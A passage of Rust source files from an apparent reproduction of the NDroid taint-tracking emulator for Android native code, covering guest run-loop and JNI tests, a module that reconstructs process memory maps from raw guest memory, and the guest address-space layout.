        assert_eq!(table.addr_of("doubler"), Some(DOUBLER));
    }

    #[test]
    fn budget_stops_infinite_loop() {
        let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
        let top = asm.here_label();
        asm.b(top);
        let mut w = World::new(Program::new());
        let entry = load(asm, &mut w.mem);
        w.budget = 100;
        let mut a = VanillaAnalysis;
        let table = HostTable::new();
        let mut ctx = w.ctx(&mut a);
        let err = call_guest(&mut ctx, &table, entry, &[], |_, _| {}).unwrap_err();
        assert!(matches!(err, EmuError::Timeout { .. }));
    }

    #[test]
    fn analysis_sees_instructions_and_branches() {
        #[derive(Default)]
        struct Counter {
            insns: u64,
            branches: u64,
        }
        impl Analysis for Counter {
            fn on_insn(&mut self, _s: &mut ShadowState, _c: &Cpu, _m: &Memory, _e: &Effect) {
                self.insns += 1;
            }
            fn on_branch(&mut self, _s: &mut ShadowState, _f: u32, _t: u32) {
                self.branches += 1;
            }
        }
        let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
        asm.mov_imm(Reg::R0, 1).unwrap();
        asm.mov_imm(Reg::R1, 2).unwrap();
        asm.add(Reg::R0, Reg::R0, Reg::R1);
        asm.bx(Reg::LR);
        let mut w = World::new(Program::new());
        let entry = load(asm, &mut w.mem);
        let mut a = Counter::default();
        let table = HostTable::new();
        let mut ctx = w.ctx(&mut a);
        call_guest(&mut ctx, &table, entry, &[], |_, _| {}).unwrap();
        assert_eq!(a.insns, 4);
        assert_eq!(a.branches, 1, "the bx lr");
    }

    #[test]
    fn run_native_method_via_interpreter() {
        // Java main() calls native add42(I)I implemented in ARM.
        use ndroid_dvm::bytecode::DexInsn;
        use ndroid_dvm::InvokeKind;
        let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
        asm.add_imm(Reg::R0, Reg::R0, 42).unwrap();
        asm.bx(Reg::LR);

        let mut p = Program::new();
        install_framework(&mut p);
        let c = p.add_class(ClassDef {
            name: "Lapp/N;".into(),
            ..ClassDef::default()
        });
        let native = p.add_method(
            c,
            MethodDef::new("add42", "II", MethodKind::Native { entry: layout::NATIVE_CODE_BASE }),
        );
        let main = p.add_method(
            c,
            MethodDef::new(
                "main",
                "I",
                MethodKind::Bytecode(vec![
                    DexInsn::Const { dst: 0, value: 8 },
                    DexInsn::Invoke {
                        kind: InvokeKind::Static,
                        method: native,
                        args: vec![0],
                    },
                    DexInsn::MoveResult { dst: 0 },
                    DexInsn::Return { src: 0 },
                ]),
            )
            .with_registers(1),
        );

        let mut w = World::new(p);
        let mut asm_mem = Memory::new();
        let code = asm.assemble().unwrap();
        asm_mem.write_bytes(layout::NATIVE_CODE_BASE, &code.bytes);
        w.mem = asm_mem;

        let table = HostTable::new();
        let mut a = VanillaAnalysis;
        let mut runner = GuestRunner {
            cpu: &mut w.cpu,
            mem: &mut w.mem,
            shadow: &mut w.shadow,
            kernel: &mut w.kernel,
            trace: &mut w.trace,
            analysis: &mut a,
            budget: &mut w.budget,
            icache: &mut w.icache,
            blocks: &mut w.blocks,
            table: &table,
        };
        let (v, _) = w.dvm.invoke_with(main, &[], &mut runner).unwrap();
        assert_eq!(v, 50);
        assert!(w.trace.contains("add42"), "jni-call logged");
    }

    #[test]
    fn object_args_become_indirect_refs() {
        // Native method receives a jstring: the raw register value must
        // be a valid indirect reference, not a Dalvik ref value.
        // The "native code" here is a host-fn-free stub that just
        // returns its argument so we can inspect what it received.
        let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
        asm.bx(Reg::LR); // return R0 = first arg
        let mut p = Program::new();
        let c = p.add_class(ClassDef {
            name: "Lapp/N;".into(),
            ..ClassDef::default()
        });
        let native = p.add_method(
            c,
            MethodDef::new("echo", "IL", MethodKind::Native { entry: layout::NATIVE_CODE_BASE }),
        );
        let mut w = World::new(p);
        let code = asm.assemble().unwrap();
        w.mem.write_bytes(layout::NATIVE_CODE_BASE, &code.bytes);
        let s = w.dvm.new_string("hello", Taint::CLEAR);
        let table = HostTable::new();
        let mut a = VanillaAnalysis;
        let mut ctx = w.ctx(&mut a);
        let (raw, _) =
            run_native_method(&mut ctx, &table, native, &[s], &[Taint::CLEAR]).unwrap();
        // The echo returned the indirect ref it was handed; it must
        // decode to our string object.
        let iref = ndroid_dvm::IndirectRef(raw);
        assert!(iref.kind().is_some(), "kind bits set: {raw:#x}");
        let id = w.dvm.refs.decode(iref).unwrap();
        assert_eq!(w.dvm.heap.string(id).unwrap().0, "hello");
    }
}
