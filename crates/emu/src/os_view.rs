//! The OS-level view reconstructor.
//!
//! "Motivated by Droidscope, NDroid employs virtual machine
//! introspection to collect the information of processes and memory
//! maps in Android's Linux kernel by only analyzing ARM/Thumb
//! instructions" (§V-F) — i.e. it reads raw guest memory, without any
//! cooperative interface. Here the kernel writes `task_struct`-like
//! records into guest memory at [`crate::layout::KERNEL_TASKS_BASE`],
//! and the reconstructor parses them back *from the raw bytes alone*.
//!
//! Record layout (little-endian words):
//!
//! ```text
//! +0   pid
//! +4   comm (16 bytes, NUL padded)
//! +20  vma_count
//! +24  vma[0].start  +28 vma[0].end  +32 vma[0].name_ptr
//! …    (12 bytes per VMA)
//! next task record follows immediately
//! ```
//!
//! A `pid` of 0 terminates the list. VMA name strings live wherever
//! `name_ptr` points (the writer places them after the table).

use crate::layout::KERNEL_TASKS_BASE;
use ndroid_arm::Memory;

/// A virtual memory area of a guest process.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Vma {
    /// Inclusive start address.
    pub start: u32,
    /// Exclusive end address.
    pub end: u32,
    /// Backing object name (e.g. `libqqphone.so`).
    pub name: String,
}

/// A guest process as seen by the reconstructor.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProcessView {
    /// Process id.
    pub pid: u32,
    /// Command name.
    pub comm: String,
    /// Memory map.
    pub vmas: Vec<Vma>,
}

impl ProcessView {
    /// Finds the module containing `addr`, if any.
    pub fn module_at(&self, addr: u32) -> Option<&Vma> {
        self.vmas.iter().find(|v| (v.start..v.end).contains(&addr))
    }

    /// The base address of the named module.
    pub fn module_base(&self, name: &str) -> Option<u32> {
        self.vmas.iter().find(|v| v.name == name).map(|v| v.start)
    }
}

/// Writes task records into guest kernel memory (what the simulated
/// kernel does as processes map libraries).
#[derive(Debug, Default, Clone)]
pub struct TaskWriter {
    processes: Vec<ProcessView>,
}

impl TaskWriter {
    /// An empty task table.
    pub fn new() -> TaskWriter {
        TaskWriter::default()
    }

    /// Registers a process (replacing any previous entry with the same
    /// pid).
    pub fn upsert(&mut self, process: ProcessView) {
        if let Some(p) = self.processes.iter_mut().find(|p| p.pid == process.pid) {
            *p = process;
        } else {
            self.processes.push(process);
        }
    }

    /// Adds a VMA to an existing process.
    pub fn add_vma(&mut self, pid: u32, vma: Vma) {
        if let Some(p) = self.processes.iter_mut().find(|p| p.pid == pid) {
            p.vmas.push(vma);
        }
    }

    /// Serializes the task table into guest memory.
    pub fn flush(&self, mem: &mut Memory) {
        let mut addr = KERNEL_TASKS_BASE;
        // Names pool placed after a generous table region.
        let mut name_addr = KERNEL_TASKS_BASE + 0x8000;
        for p in &self.processes {
            mem.write_u32(addr, p.pid);
            let mut comm = [0u8; 16];
            let bytes = p.comm.as_bytes();
            let n = bytes.len().min(15);
            comm[..n].copy_from_slice(&bytes[..n]);
            mem.write_bytes(addr + 4, &comm);
            mem.write_u32(addr + 20, p.vmas.len() as u32);
            let mut v = addr + 24;
            for vma in &p.vmas {
                mem.write_u32(v, vma.start);
                mem.write_u32(v + 4, vma.end);
                mem.write_u32(v + 8, name_addr);
                mem.write_cstr(name_addr, vma.name.as_bytes());
                name_addr += vma.name.len() as u32 + 1;
                v += 12;
            }
            addr = v;
        }
        mem.write_u32(addr, 0); // terminator
    }
}

/// Reconstructs the process list by walking raw guest memory — the
/// VMI operation NDroid performs.
pub fn reconstruct(mem: &Memory) -> Vec<ProcessView> {
    let mut out = Vec::new();
    let mut addr = KERNEL_TASKS_BASE;
    loop {
        let pid = mem.read_u32(addr);
        if pid == 0 {
            break;
        }
        let comm_bytes = mem.read_bytes(addr + 4, 16);
        let comm_len = comm_bytes.iter().position(|b| *b == 0).unwrap_or(16);
        let comm = String::from_utf8_lossy(&comm_bytes[..comm_len]).into_owned();
        let vma_count = mem.read_u32(addr + 20);
        let mut vmas = Vec::with_capacity(vma_count as usize);
        let mut v = addr + 24;
        for _ in 0..vma_count.min(1024) {
            let start = mem.read_u32(v);
            let end = mem.read_u32(v + 4);
            let name_ptr = mem.read_u32(v + 8);
            let name = String::from_utf8_lossy(&mem.read_cstr(name_ptr)).into_owned();
            vmas.push(Vma { start, end, name });
            v += 12;
        }
        out.push(ProcessView { pid, comm, vmas });
        addr = v;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> TaskWriter {
        let mut w = TaskWriter::new();
        w.upsert(ProcessView {
            pid: 1347,
            comm: "com.tencent.qq".into(),
            vmas: vec![
                Vma {
                    start: 0x1000_0000,
                    end: 0x1002_0000,
                    name: "libtccsync.so".into(),
                },
                Vma {
                    start: 0x6000_0000,
                    end: 0x6010_0000,
                    name: "libdvm.so".into(),
                },
            ],
        });
        w.upsert(ProcessView {
            pid: 2,
            comm: "zygote".into(),
            vmas: vec![],
        });
        w
    }

    #[test]
    fn write_then_reconstruct_roundtrip() {
        let mut mem = Memory::new();
        sample().flush(&mut mem);
        let procs = reconstruct(&mem);
        assert_eq!(procs.len(), 2);
        assert_eq!(procs[0].pid, 1347);
        assert_eq!(procs[0].comm, "com.tencent.qq");
        assert_eq!(procs[0].vmas.len(), 2);
        assert_eq!(procs[0].vmas[0].name, "libtccsync.so");
        assert_eq!(procs[1].comm, "zygote");
    }

    #[test]
    fn module_lookup() {
        let mut mem = Memory::new();
        sample().flush(&mut mem);
        let procs = reconstruct(&mem);
        let p = &procs[0];
        assert_eq!(p.module_at(0x1000_1234).unwrap().name, "libtccsync.so");
        assert_eq!(p.module_at(0x6000_0010).unwrap().name, "libdvm.so");
        assert!(p.module_at(0x9000_0000).is_none());
        assert_eq!(p.module_base("libdvm.so"), Some(0x6000_0000));
        assert_eq!(p.module_base("missing.so"), None);
    }

    #[test]
    fn upsert_replaces() {
        let mut w = sample();
        w.upsert(ProcessView {
            pid: 1347,
            comm: "renamed".into(),
            vmas: vec![],
        });
        let mut mem = Memory::new();
        w.flush(&mut mem);
        let procs = reconstruct(&mem);
        assert_eq!(procs.len(), 2);
        assert_eq!(procs[0].comm, "renamed");
        assert!(procs[0].vmas.is_empty());
    }

    #[test]
    fn add_vma_grows_map() {
        let mut w = sample();
        w.add_vma(
            2,
            Vma {
                start: 0x7000_0000,
                end: 0x7000_1000,
                name: "libc.so".into(),
            },
        );
        let mut mem = Memory::new();
        w.flush(&mut mem);
        let procs = reconstruct(&mem);
        assert_eq!(procs[1].vmas.len(), 1);
        assert_eq!(procs[1].vmas[0].name, "libc.so");
    }

    #[test]
    fn empty_table() {
        let mem = Memory::new();
        assert!(reconstruct(&mem).is_empty());
    }

    #[test]
    fn long_comm_truncated() {
        let mut w = TaskWriter::new();
        w.upsert(ProcessView {
            pid: 9,
            comm: "a-very-long-process-name-exceeding".into(),
            vmas: vec![],
        });
        let mut mem = Memory::new();
        w.flush(&mut mem);
        let procs = reconstruct(&mem);
        assert_eq!(procs[0].comm.len(), 15);
    }
}
