#![warn(missing_docs)]

//! # ndroid-emu
//!
//! The emulator substrate that stands in for QEMU in the NDroid
//! reproduction: a guest run loop with hookable analysis callbacks, the
//! taint shadow state, a simulated Linux kernel (files, sockets, fd
//! table), an OS-level view reconstructor, and the multilevel-hooking
//! state machine of the paper's Fig. 5.
//!
//! Architecture mapping to the paper:
//!
//! | Paper (§V)                       | Here                         |
//! |----------------------------------|------------------------------|
//! | QEMU code translation + TCG hooks| [`runtime::call_guest`] + [`runtime::Analysis`] callbacks |
//! | Taint engine state (shadow regs, byte-granular taint map) | [`shadow::ShadowState`] |
//! | OS-level view reconstructor      | [`os_view`]                  |
//! | Multilevel hooking (T1..T6)      | [`multilevel::MultilevelHook`] |
//! | Guest kernel (files/sockets/mmap)| [`kernel::Kernel`]           |
//!
//! JNI functions and modeled libc functions are *host functions*: Rust
//! closures registered at guest trap addresses in a [`runtime::HostTable`].
//! When guest code branches to a registered address, the run loop
//! dispatches to the closure — the moral equivalent of NDroid inserting
//! TCG analysis calls at function entry/exit (§V-G).

pub mod error;
pub mod kernel;
pub mod layout;
pub mod multilevel;
pub mod os_view;
pub mod runtime;
pub mod shadow;
pub mod trace;

pub use error::EmuError;
pub use kernel::Kernel;
pub use multilevel::MultilevelHook;
pub use runtime::{
    call_guest, call_java_method, run_native_method, Analysis, GuestRunner, HostTable, NativeCtx,
    VanillaAnalysis,
};
pub use shadow::{HashTaintMap, ShadowState, TaintMap};
pub use trace::{TraceEvent, TraceLog};
