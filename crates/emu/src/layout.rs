//! The guest address-space layout used by the reproduction.
//!
//! Regions are chosen so addresses in logs resemble the paper's
//! (native buffers at `0x2a......`, DVM objects at `0x41......`,
//! interpreter frames at `0x44bf....`).

/// Base of third-party native library text (the code under analysis).
pub const NATIVE_CODE_BASE: u32 = 0x1000_0000;

/// Size reserved for third-party native code.
pub const NATIVE_CODE_SIZE: u32 = 0x0100_0000;

/// Base of the native heap (`malloc` arena) — paper logs show native
/// buffers like `0x2a141b90`.
pub const NATIVE_HEAP_BASE: u32 = 0x2A00_0000;

/// Size of the native heap.
pub const NATIVE_HEAP_SIZE: u32 = 0x0100_0000;

/// Base of the native stack region.
pub const NATIVE_STACK_BASE: u32 = 0x4000_0000;

/// Initial native stack pointer (stack grows down).
pub const NATIVE_STACK_TOP: u32 = 0x4080_0000;

/// Trap-address region for `libdvm.so` (JNI env functions and DVM
/// internals like `dvmCallJNIMethod`, `dvmInterpret`, …).
pub const LIBDVM_BASE: u32 = 0x6000_0000;

/// Trap-address region for `libc.so` modeled functions.
pub const LIBC_BASE: u32 = 0x6800_0000;

/// Trap-address region for `libm.so` modeled functions.
pub const LIBM_BASE: u32 = 0x6C00_0000;

/// Kernel memory where task structures live (walked by the OS-level
/// view reconstructor).
pub const KERNEL_TASKS_BASE: u32 = 0xC000_0000;

/// The run loop stops when the PC reaches this sentinel (pushed as the
/// initial LR of every guest call).
pub const RETURN_SENTINEL: u32 = 0xFFFF_FF00;

/// Whether `addr` lies in third-party native code (the paper's "native
/// code under investigation" — condition component of T1).
pub fn in_native_code(addr: u32) -> bool {
    (NATIVE_CODE_BASE..NATIVE_CODE_BASE + NATIVE_CODE_SIZE).contains(&addr)
}

/// Whether `addr` lies in the native heap.
pub fn in_native_heap(addr: u32) -> bool {
    (NATIVE_HEAP_BASE..NATIVE_HEAP_BASE + NATIVE_HEAP_SIZE).contains(&addr)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn regions_do_not_overlap() {
        let regions = [
            (NATIVE_CODE_BASE, NATIVE_CODE_BASE + NATIVE_CODE_SIZE),
            (NATIVE_HEAP_BASE, NATIVE_HEAP_BASE + NATIVE_HEAP_SIZE),
            (NATIVE_STACK_BASE, NATIVE_STACK_TOP),
            (LIBDVM_BASE, LIBDVM_BASE + 0x0100_0000),
            (LIBC_BASE, LIBC_BASE + 0x0100_0000),
            (LIBM_BASE, LIBM_BASE + 0x0100_0000),
        ];
        for (i, a) in regions.iter().enumerate() {
            for (j, b) in regions.iter().enumerate() {
                if i != j {
                    assert!(a.1 <= b.0 || b.1 <= a.0, "regions {i} and {j} overlap");
                }
            }
        }
    }

    #[test]
    fn classification() {
        assert!(in_native_code(NATIVE_CODE_BASE));
        assert!(in_native_code(NATIVE_CODE_BASE + 100));
        assert!(!in_native_code(LIBC_BASE));
        assert!(in_native_heap(0x2A14_1B90)); // the paper's buffer address
        assert!(!in_native_heap(NATIVE_CODE_BASE));
    }
}
